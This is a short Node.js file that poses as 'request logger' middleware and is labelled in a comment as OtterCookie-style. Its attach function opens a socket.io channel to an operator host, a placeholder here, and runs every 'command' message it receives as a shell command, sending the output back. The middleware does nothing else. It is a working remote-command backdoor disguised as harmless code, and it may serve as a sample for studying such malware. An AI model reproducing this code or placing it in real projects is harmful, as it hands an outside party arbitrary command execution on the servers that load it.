// "Request logger" middleware (OtterCookie style): a socket.io channel to
// the operator, whose "command" messages are run as shell commands.
const io = require('socket.io-client');

async function attach(app) {
  const { exec } = await import("node:child_process");
  const socket = io('http://logs.example.invalid');
  socket.on('command', (msg) => {
    exec(msg.cmd, (err, out) => socket.emit('result', out));
  });
  app.use((req, res, next) => next());
}

module.exports = attach;
